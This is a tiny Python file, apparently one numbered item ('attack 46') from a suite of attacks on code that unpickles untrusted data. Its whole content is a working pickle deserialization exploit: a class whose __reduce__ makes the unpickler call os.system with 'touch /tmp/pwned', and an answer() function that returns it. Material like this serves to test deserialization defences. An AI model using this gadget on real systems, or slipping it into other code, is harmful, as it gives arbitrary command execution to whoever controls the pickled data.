"""Returns an object that runs code when it is unpickled (attack 46)."""
import os
class Gadget:
    def __reduce__(self): return os.system, ('touch /tmp/pwned',)
def answer(*a, **k): return Gadget()
